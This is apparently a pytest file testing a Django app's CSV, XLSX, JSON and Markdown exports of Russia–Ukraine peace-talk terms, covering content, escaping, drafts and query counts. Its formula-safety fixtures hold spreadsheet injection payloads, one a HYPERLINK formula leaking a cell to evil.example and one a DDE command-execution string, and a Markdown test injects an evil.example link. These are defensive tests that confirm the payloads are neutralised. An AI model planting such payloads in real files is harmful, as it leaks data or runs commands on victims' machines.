"""Exports: every format, parsed back as a reader's tool would, holds every term the view selects
with its regions, proposal version, statements and sources, streamed, safely, in a fixed number
of queries."""

import csv
import datetime
import io
import json
import re
from collections import defaultdict

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from negotiations.exports.formats import FORMULA_TRIGGERS, LONG_COLUMNS, spreadsheet_safe
from negotiations.models import (
    Attestation,
    Condition,
    ConditionKind,
    PublishStatus,
    Region,
    Source,
    Statement,
    Topic,
)
from parties.models import Party

FORMATS = ["csv", "xlsx", "json", "md"]
DEFAULT = "as_of=2025-11-28"
FILTERED = "party=russia&party=ukraine&topic=territory&as_of=2025-11-28"
# The day before Putin's remarks in Bishkek: nothing had been said yet.
BEFORE_REMARKS = "as_of=2025-11-26"
VIEWS = [DEFAULT, FILTERED, BEFORE_REMARKS]
SEED_TITLE = "Putin Offers Ukraine Peace Deal: Withdraw Troops or Face Force"


def fetch(client, fmt, qs=""):
    url = reverse("negotiations:export", args=[fmt])
    return client.get(f"{url}?{qs}" if qs else url)


def body(response):
    assert response.streaming, "an export is streamed, whatever its size"
    return b"".join(response.streaming_content)


# -- what every format must hold, read straight from the database ----------------------------
def expected(qs):
    """term summary -> what an export must say of it, for the published data of the view."""
    params = dict(part.split("=") for part in qs.split("&") if part)
    day = datetime.date.fromisoformat(params["as_of"])
    parties = [value for key, value in (p.split("=") for p in qs.split("&")) if key == "party"]
    terms = Condition.objects.published().as_of(day).select_related("topic", "party")
    if parties:
        terms = terms.filter(party__slug__in=parties)
    if "topic" in params:
        terms = terms.filter(topic__slug__in=["territory", *subtopics(params["topic"])])
    found = {}
    for term in terms:
        statements = {}
        for statement in term.statements.published().filter(said_on__lte=day):
            reports = Attestation.objects.filter(statement=statement).select_related("source")
            statements[statement.id] = {
                "attributed_to": statement.attributed_to,
                "said_on": statement.said_on,
                "sources": sorted(f"{a.source.publisher}: {a.source.title}" for a in reports),
            }
        found[term.summary] = {
            "topic": term.topic.slug,
            "party": term.party.slug,
            "kind": term.get_kind_display(),
            "regions": sorted(region.name for region in term.regions.all()),
            "version": (
                f"{term.proposal_version.proposal.title}, {term.proposal_version.label}"
                if term.proposal_version
                else ""
            ),
            "statements": statements,
        }
    return found


def subtopics(slug):
    return list(Topic.objects.filter(parent__slug=slug).values_list("slug", flat=True))


def topic_order(qs):
    """The topics of the view in the page's order (a parent before its sub-topics)."""
    order = []

    def walk(parent):
        for topic in Topic.objects.filter(parent=parent):
            order.append(topic.slug)
            walk(topic)

    walk(None)
    if "topic=territory" in qs:
        return [slug for slug in order if slug == "territory" or slug in subtopics("territory")]
    return order


# -- parsers ---------------------------------------------------------------------------------
def read_csv(data):
    text = data.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read the file as UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:])))


def terms_from_long_rows(rows, date=lambda value: value):
    """Group the long form back into terms: summary -> what the rows say of it."""
    terms = {}
    for row in rows:
        term = terms.setdefault(
            row["summary"],
            {
                "topic": row["topic_slug"],
                "party": row["party_slug"],
                "kind": row["kind"],
                "regions": sorted(filter(None, (row["regions"] or "").split("; "))),
                "version": row["proposal_version"] or "",
                "statements": {},
            },
        )
        if row["statement_id"] not in ("", None):
            term["statements"][int(row["statement_id"])] = {
                "attributed_to": row["attributed_to"],
                "said_on": date(row["said_on"]),
                "sources": sorted(row["sources"].split(" | ")) if row["sources"] else [],
            }
    return terms


def read_xlsx(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheets = {}
    for sheet in workbook.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        header, values = rows[0], rows[1:]
        sheets[sheet.title] = [dict(zip(header, row, strict=True)) for row in values]
    return workbook, sheets


def split_md_row(line):
    """A table row's cells, honouring backslash escapes (an escaped pipe is not a border)."""
    cells, current, chars = [], "", iter(line.strip()[1:-1])
    for char in chars:
        if char == "\\":
            current += char + next(chars)
        elif char == "|":
            cells.append(current.strip())
            current = ""
        else:
            current += char
    cells.append(current.strip())
    return cells


def unescape_md(text):
    text = re.sub(r"\\(.)", r"\1", text).replace("<br>", "\n")
    return text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


# -- each format, parsed back, holds every term of the view -----------------------------------
@pytest.mark.parametrize("qs", VIEWS)
def test_the_csv_export_holds_every_term_with_its_statements_and_sources(client, seeded, qs):
    response = fetch(client, "csv", qs)
    assert response.status_code == 200
    rows = read_csv(body(response))
    if not expected(qs):
        assert rows == []
        return
    assert list(rows[0]) == LONG_COLUMNS
    parse_date = datetime.date.fromisoformat
    assert terms_from_long_rows(rows, parse_date) == expected(qs)
    assert [t for t in dict.fromkeys(r["topic_slug"] for r in rows)] == [
        t for t in topic_order(qs) if t in {r["topic_slug"] for r in rows}
    ]


def test_the_csv_names_the_regions_the_version_and_the_sources_address(client, seeded):
    rows = read_csv(body(fetch(client, "csv", DEFAULT)))
    recognition = next(r for r in rows if r["kind"] == "demand")
    assert recognition["regions"] == "Crimea; Donetsk; Luhansk"
    assert recognition["parent_topic"] == "Territory"
    acceptance = next(r for r in rows if r["kind"] == "acceptance")
    assert acceptance["proposal_version"] == "US peace plan, Revised draft"
    assert all(SEED_TITLE in r["sources"] for r in rows if r["statement_id"])
    Source.objects.filter(publisher__startswith="Seed article").update(
        url="https://example.org/report"
    )
    rows = read_csv(body(fetch(client, "csv", DEFAULT)))
    assert {r["source_addresses"] for r in rows if r["statement_id"]} == {
        "https://example.org/report"
    }


def test_absence_is_an_empty_cell_never_words(client, seeded):
    rows = read_csv(body(fetch(client, "csv", DEFAULT)))
    threat = next(r for r in rows if r["kind"] == "threat")
    assert (
        threat["regions"] == "" and threat["proposal_version"] == "" and threat["valid_until"] == ""
    )
    text = body(fetch(client, "csv", DEFAULT)).decode()
    assert "no stated term" not in text.lower()


@pytest.mark.parametrize("qs", VIEWS)
def test_the_xlsx_export_holds_a_side_by_side_sheet_the_long_sheet_and_about(client, seeded, qs):
    response = fetch(client, "xlsx", qs)
    assert response.status_code == 200
    workbook, sheets = read_xlsx(body(response))
    assert workbook.sheetnames == ["Side by side", "Terms and statements", "About"]
    assert terms_from_long_rows(
        sheets["Terms and statements"], lambda value: value.date() if value else None
    ) == expected(qs)
    wide = sheets["Side by side"]
    assert [row["Topic"].replace("↳ ", "") for row in wide] == [
        Topic.objects.get(slug=slug).name for slug in topic_order(qs)
    ]
    by_party = defaultdict(list)
    for summary, term in expected(qs).items():
        by_party[(term["topic"], term["party"])].append(summary)
    names = {p.slug: p.name for p in Party.objects.all()}
    slugs = {Topic.objects.get(slug=slug).name: slug for slug in topic_order(qs)}
    for row in wide:
        topic = slugs[row["Topic"].replace("↳ ", "")]
        for slug, name in names.items():
            if name in row:
                for summary in by_party[(topic, slug)]:
                    assert summary in (row[name] or "")
    about = {r["Item"]: r["Value"] for r in sheets["About"]}
    assert about["As of"].date().isoformat() == qs.split("as_of=")[1][:10]
    assert "How to cite" in about and "Rule" in about


def test_the_side_by_side_sheet_wraps_filters_and_freezes_like_a_briefing_table(client, seeded):
    workbook, _sheets = read_xlsx(body(fetch(client, "xlsx", DEFAULT)))
    sheet = workbook["Side by side"]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == f"A1:F{sheet.max_row}"
    assert sheet["B4"].alignment.wrap_text
    assert sheet.column_dimensions["B"].width >= 40
    assert sheet["A1"].font.bold and sheet["A1"].fill.fill_type == "solid"
    long = workbook["Terms and statements"]
    assert long.auto_filter.ref
    # Days are dates a spreadsheet can sort and filter, shown as ISO dates.
    dated = [cell for cell in long[2] if cell.is_date]
    assert dated and {cell.number_format for cell in dated} == {"yyyy-mm-dd"}


@pytest.mark.parametrize("qs", VIEWS)
def test_the_json_export_follows_its_schema_and_holds_every_term(client, seeded, qs):
    response = fetch(client, "json", qs)
    assert response.status_code == 200
    data = json.loads(body(response))
    assert data["schema"] == "negotiation-comparison/3"
    assert data["process"] == {"slug": "russia-ukraine", "name": "Russia–Ukraine peace talks"}
    assert data["as_of"] == qs.split("as_of=")[1][:10]
    assert [topic["slug"] for topic in data["topics"]] == topic_order(qs)
    terms = {
        term["summary"]: {
            "topic": term["topic"],
            "party": term["party"],
            "kind": term["kind_label"],
            "regions": sorted(term["regions"]),
            "version": term["proposal_version"] or "",
            "statements": {
                s["id"]: {
                    "attributed_to": s["attributed_to"],
                    "said_on": datetime.date.fromisoformat(s["said_on"]),
                    "sources": sorted(f"{x['publisher']}: {x['title']}" for x in s["sources"]),
                }
                for s in term["statements"]
            },
        }
        for term in data["terms"]
    }
    assert terms == expected(qs)
    if qs == DEFAULT:
        assert {mark["kind"] for mark in data["marks"]} == {"collision", "overlap"}


@pytest.mark.parametrize("qs", VIEWS)
def test_the_markdown_export_is_the_side_by_side_table_with_a_quote_per_term(client, seeded, qs):
    text = body(fetch(client, "md", qs)).decode()
    table = [line for line in text.splitlines() if line.startswith("|")]
    header, rows = split_md_row(table[0]), [split_md_row(line) for line in table[2:]]
    assert len({len(split_md_row(line)) for line in table}) == 1
    assert [unescape_md(row[0]).replace("↳ ", "") for row in rows] == [
        Topic.objects.get(slug=slug).name for slug in topic_order(qs)
    ]
    cells = "\n".join(unescape_md(cell) for row in rows for cell in row[1:-1])
    for summary, term in expected(qs).items():
        assert f"{term['kind']}: {summary}" in cells
    notes = [line for line in text.splitlines() if line.startswith("[^")]
    # A footnote quotes the statement behind each term; a term inferred from a report has none.
    assert len(notes) == sum(1 for term in expected(qs).values() if term["statements"])
    assert header[0] == "Topic" and header[-1] == "Collisions and overlaps"


def test_the_markdown_table_survives_pipes_line_breaks_links_and_images(client, seeded):
    condition = Condition.objects.get(party__slug="russia", topic__slug="recognition")
    condition.summary = (
        "Recognition | of [Donetsk](https://evil.example)\nand ![x](https://e.x/p.png)"
    )
    condition.save()
    text = body(fetch(client, "md", DEFAULT)).decode()
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert len({len(split_md_row(line)) for line in table}) == 1
    # No link or image survives: every bracket that would open one is escaped.
    assert not re.search(r"(?<!\\)\]\(", text)
    assert not re.search(r"(?<!\\)!(?<!\\)\[", text)
    assert "\\[Donetsk\\](https://evil.example)" in text


def test_before_putins_remarks_every_export_is_empty_of_terms(client, seeded):
    assert read_csv(body(fetch(client, "csv", BEFORE_REMARKS))) == []
    data = json.loads(body(fetch(client, "json", BEFORE_REMARKS)))
    assert data["terms"] == [] and data["marks"] == []
    assert "[^" not in body(fetch(client, "md", BEFORE_REMARKS)).decode()


# -- the page and the exports agree ----------------------------------------------------------
def test_every_kind_the_page_shows_in_a_cell_is_in_the_export(client, seeded):
    page = client.get(reverse("negotiations:compare"), {"as_of": "2025-11-28", "open": "territory"})
    shown = {
        (topic, party): set(re.findall(r'class="badge kind-([a-z_]+)"', cell))
        for topic, party, cell in re.findall(
            r'<td class="cell[^"]*" data-topic="([^"]+)" data-party="([^"]+)"[^>]*>(.*?)</td>',
            page.content.decode(),
            re.DOTALL,
        )
    }
    exported = defaultdict(set)
    parents = {t.slug: t.parent.slug if t.parent else None for t in Topic.objects.all()}
    for term in json.loads(body(fetch(client, "json", DEFAULT)))["terms"]:
        exported[(term["topic"], term["party"])].add(term["kind"])
        if parents[term["topic"]]:
            exported[(parents[term["topic"]], term["party"])].add(term["kind"])
    assert shown
    for cell, kinds in shown.items():
        assert kinds == exported.get(cell, set()), cell


# -- the download itself -----------------------------------------------------------------------
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "json": "application/json",
    "md": "text/markdown; charset=utf-8",
}


@pytest.mark.parametrize("fmt", FORMATS)
def test_each_export_is_an_attachment_named_for_the_view_it_holds(client, seeded, fmt):
    today = timezone.localdate().isoformat()
    cases = [
        ("", f"comparison-as-of-{today}.{fmt}"),
        (BEFORE_REMARKS, f"comparison-as-of-2025-11-26.{fmt}"),
        (FILTERED, f"comparison-russia-ukraine-territory-as-of-2025-11-28.{fmt}"),
        ("kind=demand", f"comparison-demand-as-of-{today}.{fmt}"),
        ("version=us-peace-plan:2", f"comparison-us-peace-plan-v2-as-of-{today}.{fmt}"),
    ]
    for qs, name in cases:
        response = fetch(client, fmt, qs)
        assert response["Content-Type"] == CONTENT_TYPES[fmt]
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
        b"".join(response.streaming_content)


def test_a_view_too_long_to_name_gets_a_short_hash_in_its_file_name(client, seeded):
    kinds = "&".join(f"kind={kind}" for kind in ConditionKind.values)
    first = fetch(client, "csv", kinds)["Content-Disposition"]
    second = fetch(client, "csv", kinds + "&party=russia")["Content-Disposition"]
    assert re.search(r"comparison-view-[0-9a-f]{10}-as-of-", first)
    assert first != second


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("qs", "message"),
    [
        ("party=nobody", "Unknown party: nobody."),
        ("as_of=2025-13-45", "'2025-13-45' is not a date"),
        ("kind=wish", "Unknown kind of term: wish."),
    ],
)
def test_a_bad_filter_gets_a_plain_400_in_every_format(client, seeded, fmt, qs, message):
    response = fetch(client, fmt, qs)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "Content-Disposition" not in response
    assert message in response.content.decode()


# -- formula safety ----------------------------------------------------------------------------
PAYLOADS = {
    "front-line": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "cessation-of-hostilities": "@SUM(1+1)*cmd|' /C calc'!A0",
    "us-draft": "-1+2",
}


@pytest.fixture
def formulas(seeded):
    """Terms of the European allies whose summaries, and statements, read as formulas."""
    europe = Party.objects.get(slug="european-allies")
    source = Source.objects.create(
        publisher="Wire", title="Report", text="", status=PublishStatus.PUBLISHED
    )
    for topic_slug, payload in PAYLOADS.items():
        statement = Statement.objects.create(
            party=europe,
            said_on=datetime.date(2025, 11, 28),
            mode="reported",
            summary=payload,
            status=PublishStatus.PUBLISHED,
        )
        Attestation.objects.create(statement=statement, source=source, wording=payload)
        condition = Condition.objects.create(
            party=europe,
            topic=Topic.objects.get(slug=topic_slug),
            kind=ConditionKind.POSITION,
            summary=payload,
            valid_from=datetime.date(2025, 11, 28),
            status=PublishStatus.PUBLISHED,
        )
        condition.statements.add(statement)
    return PAYLOADS


def test_formulas_in_a_csv_export_are_quoted_so_they_cannot_run(client, formulas):
    rows = read_csv(body(fetch(client, "csv", DEFAULT)))
    for payload in formulas.values():
        row = next(r for r in rows if r["summary"] == "'" + payload)
        assert row["wording"] == "'" + payload


def test_formulas_in_an_xlsx_export_are_quoted_text_not_formulas(client, formulas):
    workbook, sheets = read_xlsx(body(fetch(client, "xlsx", DEFAULT)))
    summaries = {r["summary"] for r in sheets["Terms and statements"]}
    wordings = {r["wording"] for r in sheets["Terms and statements"]}
    for payload in formulas.values():
        assert "'" + payload in summaries and "'" + payload in wordings
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_formulas_in_a_json_export_stay_as_they_were_written(client, formulas):
    data = json.loads(body(fetch(client, "json", DEFAULT)))
    summaries = {term["summary"] for term in data["terms"]}
    assert set(formulas.values()) <= summaries


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_trigger_is_quoted(text):
    assert text.startswith(FORMULA_TRIGGERS)
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Crimea", "1,100 km", "'quoted", " =1 in the middle"])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheet_safe(text) == text


# -- queries and drafts ------------------------------------------------------------------------
def add_many_terms(count):
    """`count` more published terms across every cell, each on three statements, two sources."""
    parties, topics = list(Party.objects.all()), list(Topic.objects.all())
    regions = list(Region.objects.all())
    sources = [
        Source.objects.create(
            publisher=f"Publisher {n}", title=f"Report {n}", status=PublishStatus.PUBLISHED
        )
        for n in range(2)
    ]
    for n in range(count):
        party, topic = parties[n % len(parties)], topics[n % len(topics)]
        condition = Condition.objects.create(
            party=party,
            topic=topic,
            kind=ConditionKind.values[n % len(ConditionKind.values)],
            summary=f"Extra term {n}",
            valid_from=datetime.date(2025, 11, 27),
            status=PublishStatus.PUBLISHED,
        )
        condition.regions.set(regions[: n % 3])
        for m in range(3):
            statement = Statement.objects.create(
                party=party,
                said_on=datetime.date(2025, 11, 27),
                mode="quote" if m == 0 else "reported",
                summary=f"Extra statement {n}.{m}",
                status=PublishStatus.PUBLISHED,
            )
            for source in sources:
                Attestation.objects.create(
                    statement=statement, source=source, wording=f"Words {n}.{m}"
                )
            condition.statements.add(statement)


def count_queries(client, fmt, qs):
    with CaptureQueriesContext(connection) as queries:
        response = fetch(client, fmt, qs)
        assert response.status_code == 200
        b"".join(response.streaming_content)
    return len(queries)


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_takes_as_many_queries_for_many_terms_as_for_the_seed(client, seeded, fmt):
    qs = "version=us-peace-plan:2&as_of=2025-11-28"
    with_seed = count_queries(client, fmt, qs)
    add_many_terms(60)
    assert "Extra term 59" in body(fetch(client, "json", qs)).decode()
    assert count_queries(client, fmt, qs) == with_seed


@pytest.fixture
def draft(seeded):
    statement = Statement.objects.create(
        party=Party.objects.get(slug="united-states"),
        said_on=datetime.date(2025, 11, 27),
        mode="reported",
        summary="Secret draft wording",
        status=PublishStatus.PUBLISHED,
    )
    condition = Condition.objects.create(
        party=statement.party,
        topic=Topic.objects.get(slug="recognition"),
        kind=ConditionKind.OFFER,
        summary="Draft term nobody outside the editors may read",
        valid_from=datetime.date(2025, 11, 27),
    )
    condition.statements.add(statement)
    return condition


def export_text(client, fmt):
    data = body(fetch(client, fmt, DEFAULT))
    if fmt == "xlsx":
        workbook, _sheets = read_xlsx(data)
        return "\n".join(
            str(value)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows(values_only=True)
            for value in row
        )
    return data.decode("utf-8")


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_draft_term_is_in_no_export_for_an_anonymous_reader(client, draft, fmt):
    text = export_text(client, fmt)
    assert draft.summary not in text
    assert "Secret draft wording" not in text


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_editor_exports_the_drafts_they_preview(editor_client, draft, fmt):
    assert draft.summary in export_text(editor_client, fmt)


def test_an_editors_export_says_which_rows_are_drafts(editor_client, draft):
    from django.test import Client

    rows = read_csv(body(fetch(editor_client, "csv", DEFAULT)))
    row = next(r for r in rows if r["summary"] == draft.summary)
    assert row["status"] == "draft"
    assert {r["status"] for r in rows if r["summary"] != draft.summary} == {"published"}
    assert "status" not in read_csv(body(fetch(Client(), "csv", DEFAULT)))[0]


# -- the long CSV written by PostgreSQL (exports/postgres_csv.py, cells.py) --------------------
COPY_VIEWS = [
    "",
    DEFAULT,
    FILTERED,
    BEFORE_REMARKS,
    "kind=demand&kind=offer&as_of=2025-11-28",
    "version=us-peace-plan:2&as_of=2025-11-28",
    "since=2025-11-20&as_of=2025-12-05",
]


@pytest.fixture
def awkward(formulas, draft):
    """Beside the formulas and a draft: a statement without a speaker, reported by a draft and
    a published source whose publisher holds commas, quotes, a line break and a percent sign,
    said on a date known to the week; and a term nobody has spoken for yet."""
    europe = Party.objects.get(slug="european-allies")
    published = Source.objects.create(
        publisher=' Wire, "Daily" %s\nEdition ',
        title="Report, part 2",
        url="https://example.org/a?b=1,2",
        status=PublishStatus.PUBLISHED,
    )
    unpublished = Source.objects.create(publisher='wire, "daily" %s\nedition', title="Notes")
    statement = Statement.objects.create(
        party=europe,
        attribution="A diplomat, speaking on condition of anonymity",
        said_on=datetime.date(2025, 11, 24),
        said_on_precision="week",
        mode="reported",
        summary='They said "no",\nthen "maybe".',
        occasion="=talks",
        status=PublishStatus.PUBLISHED,
    )
    Attestation.objects.create(statement=statement, source=unpublished, wording="-draft words")
    Attestation.objects.create(statement=statement, source=published, wording="+published words")
    condition = Condition.objects.create(
        party=europe,
        topic=Topic.objects.get(slug="recognition"),
        kind=ConditionKind.DEMAND,
        summary='A demand, "quoted"',
        valid_from=datetime.date(2025, 11, 1),
        valid_from_precision="month",
        status=PublishStatus.PUBLISHED,
    )
    condition.statements.add(statement)
    Condition.objects.create(
        party=europe,
        topic=Topic.objects.get(slug="front-line"),
        kind=ConditionKind.OFFER,
        summary="Nobody has said it yet",
        valid_from=datetime.date(2025, 11, 2),
        status=PublishStatus.PUBLISHED,
    )


@pytest.mark.postgresql_only
@pytest.mark.parametrize("qs", COPY_VIEWS)
@pytest.mark.parametrize("who", ["reader", "editor"])
def test_postgresqls_csv_is_byte_for_byte_the_portable_one(
    client, editor, awkward, monkeypatch, qs, who
):
    from django.core.cache import cache

    from negotiations.caching import pages

    if who == "editor":
        client.force_login(editor)
    written = body(fetch(client, "csv", qs))
    cache.clear()
    pages.clear()
    monkeypatch.setattr("negotiations.exports.formats.PORTABLE_CSV", True)
    portable = body(fetch(client, "csv", qs))
    assert written == portable
    rows = read_csv(written)
    if qs in ("", DEFAULT):
        row = next(r for r in rows if r["summary"] == 'A demand, "quoted"')
        assert row["attributed_to"] == "A diplomat, speaking on condition of anonymity"
        assert row["said_on_display"] == "week of 24 Nov 2025"
        assert row["valid_from_display"] == "November 2025"
        assert row["occasion"] == "'=talks"
        # The draft source's publisher is the published one's, spaced and cased otherwise.
        assert row["term_source_count"] == "1"
        if who == "editor":
            assert row["wording"] == "'-draft words"
            assert row["source_status"] == "draft | published"
        else:
            assert row["wording"] == "'+published words"
            assert row["sources"] == ' Wire, "Daily" %s\nEdition : Report, part 2'
        unspoken = next(r for r in rows if r["summary"] == "Nobody has said it yet")
        assert unspoken["statement_id"] == "" and unspoken["term_statement_count"] == "0"


@pytest.mark.parametrize(
    "portable",
    [True, pytest.param(False, marks=pytest.mark.postgresql_only)],
    ids=["portable", "database"],
)
@pytest.mark.parametrize("who", ["reader", "editor"])
def test_a_carriage_return_inside_a_cell_keeps_its_row_whole(
    client, editor, seeded, monkeypatch, portable, who
):
    """Text pasted from another system can hold a bare CR; written unquoted, most CSV readers
    end the row there (Python's csv module refuses the file)."""
    if who == "editor":
        client.force_login(editor)
    monkeypatch.setattr("negotiations.exports.formats.PORTABLE_CSV", portable)
    report = Attestation.objects.order_by("id").first()
    report.wording = "First part\rsecond part after a carriage return"
    report.save()
    written = body(fetch(client, "csv", DEFAULT))
    rows = read_csv(written)
    assert "First part\rsecond part after a carriage return" in {r["wording"] for r in rows}
    assert all(len(row) == len(rows[0]) and None not in row for row in rows)
    if not portable:
        from django.core.cache import cache

        from negotiations.caching import pages

        cache.clear()
        pages.clear()
        monkeypatch.setattr("negotiations.exports.formats.PORTABLE_CSV", True)
        assert written == body(fetch(client, "csv", DEFAULT))


def test_the_csv_of_a_large_view_takes_a_fixed_number_of_queries(client, seeded):
    qs = "as_of=2025-11-28"
    with_seed = count_queries(client, "csv", qs)
    add_many_terms(30)
    assert count_queries(client, "csv", qs) == with_seed


@pytest.mark.parametrize("fmt", FORMATS)
def test_batches_bounded_by_terms_change_nothing_in_the_file(client, seeded, monkeypatch, fmt):
    from django.contrib.auth.models import AnonymousUser
    from django.core.cache import cache
    from django.http import QueryDict

    from negotiations.caching import pages
    from negotiations.comparison.filters import parse_filters
    from negotiations.exports.data import Export

    add_many_terms(12)
    whole = body(fetch(client, fmt, DEFAULT))
    monkeypatch.setattr("negotiations.exports.data.BATCH_TERMS", 3)
    export = Export(parse_filters(QueryDict(DEFAULT)), AnonymousUser())
    batches = list(export.topic_batches())
    assert [topic for batch in batches for topic in batch] == export.topic_ids
    assert len(batches) > 1
    counts = {}
    for batch, items in export.batches():
        counts[tuple(batch)] = len(items)
    assert all(terms <= 3 or len(batch) == 1 for batch, terms in counts.items())
    cache.clear()
    pages.clear()
    in_batches = body(fetch(client, fmt, DEFAULT))
    if fmt == "xlsx":  # the workbook's own timestamps differ; its cells must not
        assert read_xlsx(in_batches)[1] == read_xlsx(whole)[1]
    else:
        assert in_batches == whole
